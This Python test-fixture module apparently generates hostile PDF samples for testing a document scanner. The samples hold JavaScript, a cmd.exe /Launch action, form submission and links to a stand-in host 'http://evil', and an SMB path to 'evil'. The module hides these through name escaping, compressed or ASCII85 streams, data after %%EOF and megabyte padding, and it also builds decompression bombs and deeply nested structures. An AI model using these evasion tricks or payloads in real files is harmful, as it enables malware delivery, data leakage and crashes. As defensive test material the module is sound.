"""PDF files that act, hide what acts, or would make a reader stumble."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable, Iterator

from tests.procurement.hostile.shapes import Shape, chance

MIB = 1024 * 1024
ACTS = {
    "script": ("javascript", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "program": ("launch", b"<< /S /Launch /Win << /F (cmd.exe) >> >>"),
    "form sent": ("submits", b"<< /S /SubmitForm /F (http://evil) >>"), "form filled": ("submits", b"<< /S /ImportData /F (x.fdf) >>"),
    "other file": ("goes_elsewhere", b"<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>"), "file inside": ("embedded_files", b"<< /Type /EmbeddedFile /Length 9 >>"),
    "file opened": ("embedded_files", b"<< /S /GoToE /T << /R /C >> >>"), "dynamic form": ("forms_xfa", b"<< /AcroForm << /XFA 9 0 R >> >>"),
    "dynamic form in pieces": ("forms_xfa", b"<< /XFA [ (template) 9 0 R ] >>"), "film": ("media", b"<< /Subtype /RichMedia /X 1 >>"),
    "sound": ("media", b"<< /S /Rendition /JS 9 0 R >>"), "address": ("links", b"<< /S /URI /URI (http://evil/track) >>"),
    "address in hex": ("links", b"<< /S /URI /URI <687474703a2f2f> >>"), "at the opening": ("acts_when_opened", b"<< /OpenAction << /S /Named /N /Print >> >>"),
    "at each page": ("acts_when_opened", b"<< /AA << /O 9 0 R >> >>"), "stream elsewhere": ("goes_elsewhere", b"<< /F << /FS /URL /F (http://evil) >> >>"),
    "names": ("javascript", b"<< /Names << /JavaScript 9 0 R >> >>"),
}  # fmt: skip
LOCKS = {
    "reference": b"<< /Encrypt 9 0 R >>",
    "inline": b"<< /Encrypt << /Filter /Standard /V 4 >> >>",
    "with a remark": b"<< /Encrypt %x\n 9 0 R >>",
}
END = b"\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


def pdf(*objects: bytes) -> bytes:
    """Return a PDF with these objects."""
    return (
        b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate(objects, start=1)) + END
    )


def stream(
    content: bytes,
    entries: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
    *,
    pack: Callable[[bytes], bytes] = zlib.compress,
) -> bytes:
    """Return an object stream."""
    packed = pack(content)
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"


def in_hex(content: bytes) -> bytes:
    return content.hex().encode() + b">"


def escaped(text: bytes, every: int) -> bytes:
    """Write some letters of names as numbers."""
    found, in_name = bytearray(), False
    for at, byte in enumerate(text):
        in_name = byte == ord("/") or (in_name and chr(byte).isalnum())
        found += b"#%02X" % byte if in_name and byte != ord("/") and at % every == 0 else bytes([byte])
    return bytes(found)


HIDING: dict[str, Callable[[bytes], bytes]] = {
    "in plain": lambda act: pdf(b"<< /Type /Catalog >>", act),
    "every second letter a number": lambda act: pdf(escaped(act, 2)),
    "every letter a number": lambda act: pdf(escaped(act, 1)),
    "packed": lambda act: pdf(stream(b"1 0 " + act)),
    "packed and numbered": lambda act: pdf(stream(b"1 0 " + escaped(act, 2))),
    "packed twice": lambda act: pdf(stream(b"1 0 " + act, b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", pack=lambda c: in_hex(zlib.compress(c)))),
    "packed in letters": lambda act: pdf(stream(b"1 0 " + act, b"/Type/ObjStm/Filter[/A85/Fl]", pack=lambda c: base64.a85encode(zlib.compress(c)) + b"~>")),
    "in a stream with a numbered name": lambda act: pdf(stream(b"1 0 " + act, b"/Type /#4fbjStm /Filter /FlateDecode")),
    "after the end": lambda act: pdf(b"<< >>") + b"\n9 0 obj\n" + act + b"\nendobj" + END,
    "across two pieces": lambda act: pdf(b"(" + b"x" * (MIB - 60) + b")", act),
    "far behind": lambda act: pdf(b"(" + b"x" * (MIB + MIB // 2) + b")", act),
}  # fmt: skip


def shapes() -> Iterator[Shape]:
    """Return the family."""
    for title, (code, act) in ACTS.items():
        for way, hide in HIDING.items():
            yield Shape(f"{title}, {way}", "x.pdf", hide(act), code)
    for title, lock in LOCKS.items():
        for way in ("in plain", "every letter a number", "after the end", "far behind"):
            yield Shape(f"locked by {title}, {way}", "x.pdf", HIDING[way](lock), "FIL-03")
    yield from _streams()
    yield from _structures()
    yield from _heads()


def _streams() -> Iterator[Shape]:
    script = ACTS["script"][1]
    for title, content in {
        "broken in the middle": pdf(stream(script * 900, pack=lambda c: zlib.compress(c)[:40] + b"?" * 90)),
        "that is cut": pdf(stream(script * 900, pack=lambda c: zlib.compress(c)[:30])),
        "packed in an old way": pdf(stream(script, b"/Type /ObjStm /Filter /LZWDecode", pack=bytes)),
        "with lines foretold": pdf(stream(script, b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
        "of a gigabyte": pdf(*[stream(bytes(30 * MIB))] * 33),
        "behind a long remark": pdf(b"<< /Type /ObjStm %" + b"x" * 9000 + b"\n/Filter /FlateDecode >>\nstream\n" + zlib.compress(script) + b"\nendstream"),
        "by the thousand": pdf(*[stream(b"1 0 <<>>")] * 2500),
        "that are only said": b"%PDF-1.7\n" + b"/ObjStm " * 200_000,
        "with a key": pdf(stream(script, b"/Type /ObjStm /Filter [/Crypt /FlateDecode]")),
    }.items():  # fmt: skip
        yield Shape(f"objects {title}", "x.pdf", content, "partly_seen")


def _structures() -> Iterator[Shape]:
    dice = chance("pdf")
    for depth in (200, 5000, 100_000):
        yield Shape(f"lists {depth} deep", "x.pdf", pdf(b"[" * depth), "odd_structure")
        yield Shape(f"tables {depth} deep", "x.pdf", pdf(b"<< /A " * depth), "odd_structure")
    for width in (b"999999", b"1000000000", b"200000.5"):
        yield Shape(
            f"a page {width.decode()} wide",
            "x.pdf",
            pdf(b"<< /Type /Page /MediaBox [0 0 %s 9] >>" % width),
            "huge_page",
        )
    yield Shape("a flood of scripts", "x.pdf", pdf(b"/JavaScript " * 200_000), "javascript")
    yield Shape("a flood of numbers", "x.pdf", pdf(b"/#41#42" * 300_000), "partly_seen")
    yield Shape(
        "a flood of almosts", "x.pdf", pdf(b"/JavaScrip /XFA /URI /AA " * 100_000, ACTS["script"][1]), "javascript"
    )
    yield Shape("noise before it", "x.pdf", pdf(dice.randbytes(2 * MIB), ACTS["program"][1]), "launch")


def _heads() -> Iterator[Shape]:
    for title, before in {
        "one byte": b"x", "a program": b"MZ\x90\0", "a page": b"<html>", "a picture": b"GIF89a", "a remark": b"%x\n", "nothing seen": b"\0\0\0",
        "half a kilobyte": b"x" * 500, "a kilobyte": b"x" * 1024,
    }.items():  # fmt: skip
        yield Shape(f"after {title}", "x.pdf", before + pdf(b"<< >>"), "FIL-05")
    yield Shape("nothing", "x.pdf", b"", "FIL-01")
    yield Shape("another head", "x.pdf", b"%FDF-1.2\n" + END, "FIL-05")
    yield Shape("a table called a pdf", "x.xlsx", pdf(b"<< >>"), "FIL-06")
